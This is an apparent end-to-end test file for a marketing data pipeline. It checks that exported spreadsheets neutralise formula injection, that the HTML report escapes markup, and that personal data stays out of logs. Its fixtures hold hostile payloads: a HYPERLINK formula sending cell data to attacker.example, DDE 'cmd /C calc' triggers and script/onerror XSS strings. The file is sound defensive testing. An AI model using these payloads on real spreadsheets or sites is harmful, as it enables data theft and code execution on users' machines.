"""Untrusted text end to end: one real run over the fixture exports plus hostile rows in every
source a customer or shop operator types into (CRM contacts, Shopify customers and orders,
Cafe24 and SmartStore workbooks, SNS handles and ad channels).

What a marketer receives is then read back as they would: every XLSX cell with openpyxl (no
formula anywhere), every CSV cell with the csv module (no cell starts with a formula trigger
unless neutralised), the report in headless Chromium (markup shows as text). The run has a
failing check (a warning, so it still publishes), and afterwards no email, phone or name from
the exports is in `logs/`, `reports/` (Data Docs included) or Dagster's event log.
"""

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import duckdb
import openpyxl
import pytest
import yaml

from activation.spreadsheet_cells import E164_PHONE, FORMULA_TRIGGERS
from orchestration.config import DEFAULT_CONFIG, DangolHome
from orchestration.runner import RunOutcome, run_pipeline
from tests.conftest import FIXTURES
from tests.fixtures.make_exports import CAFE24_HEADER, SMARTSTORE_HEADER

pytestmark = pytest.mark.e2e
CHROMIUM = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"]
NOW = dt.datetime.now(dt.UTC).replace(microsecond=0)
CONSENTED = (NOW - dt.timedelta(days=30)).strftime("%Y-%m-%d %H:%M:%S")

# What an attacker types as a name: OWASP's triggers, each a formula Excel would run.
HOSTILE_NAMES = {
    "hyperlink": '=HYPERLINK("http://attacker.example/?x="&A2,"보기")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=HYPERLINK("http://attacker.example/tab")',
    "cr": '\r=HYPERLINK("http://attacker.example/cr")',
}
MARKUP = '<script>alert("dangol")</script><img src=x onerror=alert(1)>'


def csv_text(header: list[str], rows: list[dict]) -> str:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, header, restval="")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def xlsx_bytes(header: list[str], rows: list[list]) -> bytes:
    """A shop's workbook as its admin writes it: whatever the customer typed, as text cells."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # the typed text, not a formula of the shop's own
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def header_of(path: Path) -> list[str]:
    return next(csv.reader(path.open(encoding="utf-8-sig", newline="")))


def hostile_landing(landing: Path) -> None:
    """The fixture landing plus one more export per source, each carrying hostile text."""
    shutil.copytree(FIXTURES / "landing", landing)
    contacts = [
        {
            "Contact ID": f"H{index:05d}",
            "Name": name,
            "Email": f"hostile.{key}@example.net",
            "Phone": f"010-7000-{index:04d}",
            **{f"{channel} Consent": "Y" for channel in ("Email", "SMS", "Kakao")},
            **{f"{channel} Consent Date": CONSENTED for channel in ("Email", "SMS", "Kakao")},
            "Night Consent": "N",
            "Instagram Handle": f'@=HYPERLINK("http://attacker.example/{key}")',
            "Created At": CONSENTED,
            "Updated At": CONSENTED,
        }
        for index, (key, name) in enumerate(HOSTILE_NAMES.items(), start=1)
    ]
    crm_header = header_of(landing / "crm" / "contacts.csv")
    (landing / "crm" / "contacts_hostile.csv").write_text(csv_text(crm_header, contacts), "utf-8")

    orders_header = header_of(landing / "shop" / "orders_export_1.csv")
    order = {
        "Name": "#9001", "Email": "hostile.dde@example.net", "Financial Status": "paid",
        "Paid at": "2026-03-08 10:00:00 +0900", "Accepts Marketing": "yes", "Currency": "KRW",
        "Subtotal": "15000.00", "Shipping": "0.00", "Taxes": "0.00", "Total": "15000.00",
        "Discount Amount": "0.00", "Created at": "2026-03-08 10:00:00 +0900",
        "Lineitem quantity": "1", "Lineitem name": f"=cmd|' /C calc'!A0 {MARKUP}",
        "Lineitem price": "15000.00", "Billing Name": HOSTILE_NAMES["hyperlink"],
        "Billing Phone": "010-7000-0002", "Shipping Name": HOSTILE_NAMES["at"],
        "Notes": HOSTILE_NAMES["minus"], "Id": "5100000009001",
    }  # fmt: skip
    (landing / "shop" / "orders_export_hostile.csv").write_text(
        csv_text(orders_header, [order]), "utf-8"
    )
    customers_header = header_of(FIXTURES / "exports" / "shop" / "customers_export.csv")
    customer = {
        "Customer ID": "7100000009001", "First Name": HOSTILE_NAMES["plus"],
        "Last Name": HOSTILE_NAMES["dde"], "Email": "hostile.plus@example.net",
        "Accepts Email Marketing": "yes", "Phone": "+821070000003",
        "Accepts SMS Marketing": "yes", "Total Spent": "0.00", "Total Orders": "0",
        "Note": HOSTILE_NAMES["hyperlink"], "Tags": HOSTILE_NAMES["at"],
    }  # fmt: skip
    (landing / "shop" / "customers_hostile.csv").write_text(
        csv_text(customers_header, [customer]), "utf-8"
    )
    cafe24 = [
        "20260309-0009001", dt.datetime(2026, 3, 9, 12, 0), HOSTILE_NAMES["at"], "010-7000-0005",
        "hostile.at@example.net", f"@SUM(1+1) {MARKUP}", 1, 9900, 0, 9900, "배송완료",
    ]  # fmt: skip
    (landing / "shop" / "cafe24_hostile.xlsx").write_bytes(xlsx_bytes(CAFE24_HEADER, [cafe24]))
    smartstore = [
        "2026030999990001", "2026030999990000", dt.datetime(2026, 3, 9, 13, 0),
        HOSTILE_NAMES["dde"], "=cmd****", "010-7000-0002", dt.datetime(2026, 3, 9, 13, 1),
        "시그니처 그래놀라 500g", HOSTILE_NAMES["plus"], 1, 15000, "배송완료", "",
    ]  # fmt: skip
    (landing / "shop" / "smartstore_hostile.xlsx").write_bytes(
        xlsx_bytes(SMARTSTORE_HEADER, [smartstore])
    )
    stats = (FIXTURES / "exports" / "sns" / "channel_daily_stats.csv").read_text("utf-8")
    stats_lines = stats.splitlines()
    hostile_stats = [line.replace("naver_search", MARKUP.replace(",", " ")) for line in stats_lines]
    (landing / "sns" / "channel_daily_stats.csv").write_text(
        "\n".join([stats_lines[0], *(line for line in hostile_stats[1:] if MARKUP[:8] in line)])
        + "\n",
        "utf-8",
    )
    events = [
        {"Platform": "instagram", "Handle": "@=HYPERLINK(\"http://attacker.example/h\")",
         "Event Type": "like", "Post ID": "IG_009001", "Occurred At": "2026-03-07T10:00:00+09:00"},
    ]  # fmt: skip
    events_header = header_of(landing / "sns" / "engagement_events.csv")
    (landing / "sns" / "engagement_hostile.csv").write_text(
        csv_text(events_header, events), "utf-8"
    )


def hostile_config(path: Path) -> Path:
    """The shipped settings, plus a segment per channel that takes every customer (so every
    consenting hostile contact is listed) and a check that fails as a warning."""
    config = yaml.safe_load(DEFAULT_CONFIG.read_text("utf-8"))
    everyone = {"membership_status": ["member", "former_member", "never_member"]}
    config["segments"] = [
        {"name": f"everyone_{channel}", "description": MARKUP, "channel": channel,
         "where": everyone}
        for channel in ("email", "sms", "kakao")
    ]  # fmt: skip
    config["quality"]["max_days_since_last_order"] = {"limit": 0, "severity": "warn"}
    path.write_text(yaml.safe_dump(config, allow_unicode=True), "utf-8")
    return path


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> tuple[DangolHome, RunOutcome, Path]:
    root = tmp_path_factory.mktemp("untrusted")
    home = DangolHome(root=root / "home", landing=root / "landing")
    hostile_landing(home.landing)
    dagster_home = root / "dagster"
    dagster_home.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        # A real instance, so Dagster's event log is written to disk and can be read back.
        patch.setenv("DAGSTER_HOME", str(dagster_home))
        outcome = run_pipeline(home, hostile_config(root / "dangol.yaml"))
    assert outcome.published, outcome.problems
    return home, outcome, dagster_home


def export_folder(outcome: RunOutcome) -> Path:
    return Path(outcome.export_folder)


def test_no_xlsx_cell_of_any_export_is_a_formula(run):
    _, outcome, _ = run
    workbooks = sorted(export_folder(outcome).glob("*.xlsx"))

    assert len(workbooks) >= 9  # the playbook's lists and the three of every channel
    for workbook in workbooks:
        for row in openpyxl.load_workbook(workbook).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (workbook.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s", (workbook.name, cell.coordinate)
                    assert cell.quotePrefix or E164_PHONE.fullmatch(cell.value)


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_no_csv_cell_of_any_export_starts_with_a_formula_trigger(run):
    _, outcome, _ = run
    files = sorted(export_folder(outcome).glob("*.csv"))

    assert len(files) >= 9
    for path in files:
        for cell in (cell for row in csv_cells(path) for cell in row):
            assert not cell.startswith(FORMULA_TRIGGERS) or E164_PHONE.fullmatch(cell), (
                path.name,
                cell,
            )


def test_the_hostile_contacts_are_listed_with_their_names_as_text(run):
    """They consented, so they are listed: the test proves the neutralisation, not an
    exclusion. The names read exactly as typed, behind the apostrophe."""
    _, outcome, _ = run
    folder = export_folder(outcome)
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))

    assert manifest["formula_neutralisation"]["rule"] == "OWASP CSV injection"
    for channel in ("email", "sms", "kakao"):
        names = {row[0] for row in csv_cells(folder / f"everyone_{channel}.csv")[1:]}
        listed = {name for name in names if name.startswith("'")}
        assert listed == {"'" + name for name in HOSTILE_NAMES.values()}, channel
        assert manifest["segments"][f"everyone_{channel}"]["neutralised_cells"] == len(listed)
        sheet = openpyxl.load_workbook(folder / f"everyone_{channel}.xlsx").active
        typed = {
            cell.value.replace("\n", "\r") for (cell,) in sheet.iter_rows(min_row=2, max_col=1)
        }
        assert set(HOSTILE_NAMES.values()) <= typed, channel


def test_the_report_shows_markup_as_text_in_a_real_browser(run):
    _, outcome, _ = run
    page = Path(outcome.marketing_report).read_text("utf-8")
    dom = subprocess.run(
        [*CHROMIUM, Path(outcome.marketing_report).as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    ).stdout  # fmt: skip

    assert "<script" not in page and "<img" not in page
    assert "<script" not in dom and "<img" not in dom
    sections = dict(re.findall(r'<section[^>]*data-chart="(\w+)"[^>]*>(.*?)</section>', dom, re.S))
    # The segment's description (dangol.yaml) and the ad channel's name (an SNS export) are
    # in the page as the text they are.
    assert '&lt;script&gt;alert("dangol")&lt;/script&gt;' in sections["segments"]
    assert '&lt;script&gt;alert("dangol")&lt;/script&gt;' in sections["funnel"]


def personal_values(home: DangolHome) -> set[str]:
    """Every email, phone and name the run read, raw and normalised."""
    columns = {
        "crm_contacts": ["name", "email", "phone", "instagram_handle"],
        "shopify_orders": ["email", "billing_name", "shipping_name", "billing_phone", "phone"],
        "shopify_customers": ["first_name", "last_name", "email", "phone"],
        "cafe24_orders": ["orderer_name", "orderer_phone", "orderer_email"],
        "smartstore_orders": ["buyer_name", "buyer_phone"],
        "sns_engagement_events": ["handle"],
    }
    values = set()
    with duckdb.connect(str(home.state_db), read_only=True) as con:
        for table, names in columns.items():
            for name in names:
                values |= {
                    value
                    for (value,) in con.execute(
                        f"select distinct {name} from raw.{table}"
                    ).fetchall()
                    if value
                }
        values |= {
            v for (v,) in con.execute("select phone_e164 from raw.phone_numbers").fetchall() if v
        }
    values |= {value.lower() for value in values}
    return {value.strip() for value in values if len(value.strip()) >= 3}


def test_no_personal_data_in_logs_reports_or_the_event_log(run):
    home, outcome, dagster_home = run
    values = personal_values(home)
    assert "hostile.dde@example.net" in values and "+821070000002" in values
    assert "김민준" in values and HOSTILE_NAMES["dde"] in values
    # The run did have a failing check: its summary is in the messages scanned below.
    assert any("days_since_last_order" in warning for warning in outcome.warnings)

    scanned = {
        path: path.read_bytes().decode("utf-8", errors="replace")
        for folder in (home.root / "logs", home.reports_dir, dagster_home)
        for path in folder.rglob("*")
        if path.is_file()
    }
    scanned["run messages"] = "\n".join(outcome.problems + outcome.warnings)
    assert any(path.suffix == ".html" for path in scanned if isinstance(path, Path))
    assert any(path.name.endswith(".db") for path in scanned if isinstance(path, Path))
    for value in values:
        # The event log stores JSON, where Hangul is written as \\uXXXX escapes.
        forms = {value, json.dumps(value)[1:-1]}
        leaks = [str(path) for path, text in scanned.items() if any(f in text for f in forms)]
        assert not leaks, (value, leaks)
